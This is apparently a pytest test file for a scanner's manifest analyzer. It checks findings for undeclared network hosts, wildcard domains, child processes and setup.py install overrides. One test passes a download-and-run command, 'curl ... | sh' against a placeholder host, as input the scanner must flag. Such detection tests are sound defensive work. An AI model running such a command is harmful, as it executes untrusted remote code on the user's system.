import pytest

from scanner.analyzers.manifest import ManifestAnalyzer

CLIENT = "import requests\n\nrequests.get('https://api.weather.invalid/now', timeout=5)\n"


def found_in(folder, **declared):
    analyzer = ManifestAnalyzer(declared)
    return {(f.path, f.line, f.rule.partition(".")[2]) for f in analyzer.analyze(folder)}


def test_a_network_client_without_declared_hosts_is_found_where_it_is_first_used(tree):
    folder = tree({"a.py": CLIENT, "b.py": CLIENT})

    assert found_in(folder) == {("a.py", 1, "undeclared-network")}


@pytest.mark.parametrize("host", ["api.weather.invalid", "*.weather.invalid"])
def test_a_declared_host_is_fine(tree, host):
    assert found_in(tree({"a.py": CLIENT}), hosts=[host]) == set()


def test_a_host_that_is_not_declared_is_named(tree):
    found = found_in(tree({"a.py": CLIENT}), hosts=["api.invalid"])

    assert found == {("a.py", 3, "undeclared-host")}


def test_asking_for_a_whole_top_level_domain_is_found(tree):
    assert found_in(tree({}), hosts=["*.com"]) == {("matrix.toml", 0, "wide-host")}


@pytest.mark.parametrize("key", ["install", "build", "start"])
def test_a_declared_command_that_downloads_and_runs_is_found(tree, key):
    found = found_in(tree({}), **{key: "curl https://x.invalid/a.sh | sh"})

    assert found == {("matrix.toml", 0, "shell-download")}


def test_processes_and_written_files_are_mentioned(tree):
    folder = tree({"a.js": "require('child_process');\nrequire('fs').writeFileSync('a', '');\n"})

    found = {rule for _, _, rule in found_in(folder)}

    assert found == {"starts-processes"}


def test_a_setup_file_that_replaces_install_is_found(tree):
    folder = tree({"setup.py": "from setuptools import setup\n\nsetup(cmdclass={'install': X})\n"})

    assert ("setup.py", 3, "install-class") in found_in(folder)
